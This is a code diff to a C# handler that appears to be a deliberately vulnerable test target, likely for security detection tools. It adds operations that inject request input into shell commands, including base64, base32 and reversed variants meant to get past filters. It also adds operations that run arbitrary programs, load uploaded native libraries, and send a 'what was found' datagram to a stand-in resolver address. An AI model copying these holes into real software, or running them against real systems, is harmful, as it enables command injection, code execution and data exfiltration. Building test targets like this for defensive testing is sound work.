@@ -64,11 +64,22 @@ public sealed class Handler
         switch (op)
         {
             case "shell" or "cookie" or "names" or "parts": return Sh("echo report " + v);
+            case "shell-twice": return Sh("echo report " + Decode(Decode(v)));
+            case "shell-base32": return Sh("echo report " + Base32(v));
+            case "shell-reversed": return Sh("echo report " + string.Concat(v.Reverse()));
+            case "launch": return Run("/usr/bin/env", v.Split(' '));
+            case "launch-own": return Run("/usr/bin/env", $"CUSTOMER={v}", "/bin/cat", Path.Combine(Data, "words.txt"));
+            case "keep":
+                var kept = Convert.FromBase64String(v);
+                File.WriteAllBytes("/tmp/kept.bin", kept);
+                return $"kept {kept.Length} bytes";
+            case "page-link": return $"<html><body><a href='{v}'>Your site</a></body></html>";
             case "awk": return Run("/usr/bin/awk", $"{{print $0, \"{v}\"}}", Path.Combine(Data, "words.txt"));
             case "page": return $"<html><body><p>Dear {v}</p></body></html>";
             case "library":
-                File.WriteAllBytes("/tmp/library.so", Convert.FromBase64String(v));
-                return LoadLibrary("/tmp/library.so");
+                var library = Path.GetTempFileName(); // what is loaded already is not loaded again
+                File.WriteAllBytes(library, Convert.FromBase64String(v));
+                return LoadLibrary(library);
             case "library-own": return LoadLibrary(Data + "/library.so");
             case "processes": return Run("/bin/sh", "/var/task/processes.sh");
             case "environ-list": return Sh("ps axeww");
@@ -115,11 +126,9 @@ public sealed class Handler
             case "deserialize": return $"{Assembly.Load(Convert.FromBase64String(v)).GetType("Gift")!.GetMethod("Open")!.Invoke(null, null)}";
             case "unzip": return Unzip(v);
             case "datagram":
-                using (var sender = new UdpClient())
-                {
-                    sender.Send("what was found"u8, IPEndPoint.Parse(Variable("OTHER")));
-                    return "sent";
-                }
+                return SendDatagram(Variable("OTHER"));
+            case "resolver": return SendDatagram("198.51.100.53:53");
+            case "resolver-own": return SendDatagram("127.0.0.53:53");
 
             case "preload":
                 File.Copy(Data + "/hook.so", "/tmp/hook.so", overwrite: true);
@@ -238,6 +247,21 @@ public sealed class Handler
             case "none": return "nothing";
             default: throw new ArgumentException(op);
         }
+    }
+
+    private static string SendDatagram(string target)
+    {
+        using var sender = new UdpClient();
+        try
+        {
+            sender.Send("what was found"u8, IPEndPoint.Parse(target));
+        }
+        catch (SocketException error) when (error.SocketErrorCode == SocketError.NetworkUnreachable)
+        {
+            // This machine has no way there.
+        }
+
+        return "sent";
     }
 
     private static string Users(string statement)
@@ -425,12 +449,28 @@ public sealed class Handler
                 "cookie" => ("cookie", WebUtility.UrlDecode(request.GetProperty("cookies")[1].GetString()!.Split('=')[1])),
                 "names" => ("names", string.Join(' ', query.EnumerateObject().Select(p => p.Name).Where(n => n != "op"))),
                 "parts" => ("parts", string.Join(' ', JsonNode.Parse(request.GetProperty("body").GetString()!)!["parts"]!.AsArray().Select(p => p!.GetValue<string>()))),
-                _ => Pair(query),
+                _ => query.TryGetProperty("v", out _) ? Pair(query) : (query.GetProperty("op").GetString()!, Upload(request)),
             };
         }
 
         var body = request.GetProperty("body").GetString()!;
         return Parse(request.TryGetProperty("isBase64Encoded", out var encoded) && encoded.GetBoolean() ? Decode(body) : body);
+    }
+
+    /// <summary>What was sent as bytes, in base64: the body, or the file in a form behind its first field.</summary>
+    private static string Upload(JsonElement request)
+    {
+        var body = request.GetProperty("body").GetString()!;
+        if (request.GetProperty("headers").GetProperty("content-type").GetString()!.Split("boundary=") is not [_, var boundary])
+            return body;
+        var part = Encoding.Latin1.GetString(Convert.FromBase64String(body)).Split("--" + boundary)[2];
+        return Convert.ToBase64String(Encoding.Latin1.GetBytes(part[(part.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..^2]));
+    }
+
+    private static string Base32(string text)
+    {
+        var bits = string.Concat(text.TrimEnd('=').Select(c => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".IndexOf(c, StringComparison.Ordinal).ToString("b5", CultureInfo.InvariantCulture)));
+        return string.Concat(Enumerable.Range(0, bits.Length / 8).Select(i => (char)Convert.ToByte(bits.Substring(i * 8, 8), 2)));
     }
 
     private static string Decode(string base64) => Encoding.UTF8.GetString(Convert.FromBase64String(base64));
